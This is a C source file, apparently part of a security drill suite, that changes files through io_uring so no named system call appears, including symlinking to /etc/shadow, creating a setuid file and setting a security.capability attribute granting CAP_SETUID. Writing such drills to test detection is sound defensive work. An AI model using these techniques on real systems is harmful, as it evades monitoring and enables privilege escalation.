/* SPDX-License-Identifier: Apache-2.0 */
/* Changes or makes a directory or a file through io_uring: no system call names it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/openat2.h>
#include <stdint.h>
#include <sys/stat.h>

#include "drill/attacks/uring.h"

int attack_uring_change(int argc, char** argv) {
  if (argc != 3)
    return usage(
        "uring_change unlink|rename|link|symlink|directory|write|birth|plain|capability PATH");
  const char *road = argv[1], *path = argv[2];
  char other[4096];
  snprintf(other, sizeof(other), "%s.x", path);
  struct io_uring_sqe request = {.fd = AT_FDCWD, .addr = (uintptr_t)path};
  struct uring ring;
  if (uring_open(&ring) < 0) return refused();
  if (strcmp(road, "unlink") == 0) {
    request.opcode = IORING_OP_UNLINKAT;
  } else if (strcmp(road, "rename") == 0 || strcmp(road, "link") == 0) {
    request.opcode = road[0] == 'r' ? IORING_OP_RENAMEAT : IORING_OP_LINKAT;
    request.len = (unsigned)AT_FDCWD;
    request.addr2 = (uintptr_t)other;
  } else if (strcmp(road, "symlink") == 0) {
    request.opcode = IORING_OP_SYMLINKAT;
    request.addr = (uintptr_t)"/etc/shadow";
    request.addr2 = (uintptr_t)other;
  } else if (strcmp(road, "directory") == 0) {
    request.opcode = IORING_OP_MKDIRAT;
    request.addr = (uintptr_t)other;
    request.len = 0700;
  } else if (strcmp(road, "birth") == 0 || strcmp(road, "plain") == 0) {
    umask(0);
    request.opcode = IORING_OP_OPENAT;
    request.len = road[0] == 'b' ? S_ISUID | 0755 : 0755;
    request.open_flags = O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC;
  } else if (strcmp(road, "capability") == 0) {
    const struct vfs_cap_data all = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
                                     .data = {{.permitted = 1u << CAP_SETUID}}};
    if (open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755) < 0) return refused();
    request.opcode = 42; /* IORING_OP_SETXATTR */
    request.addr = (uintptr_t)"security.capability";
    request.addr2 = (uintptr_t)&all;
    request.addr3 = (uintptr_t)path;
    request.len = sizeof(all);
    return finish(uring_do(&ring, &request));
  } else {
    struct open_how how = {.flags = O_WRONLY | O_TRUNC | O_CLOEXEC};
    request.opcode = IORING_OP_OPENAT2;
    request.len = sizeof(how);
    request.off = (uintptr_t)&how;
    return finish(uring_do(&ring, &request));
  }
  return finish(uring_do(&ring, &request));
}
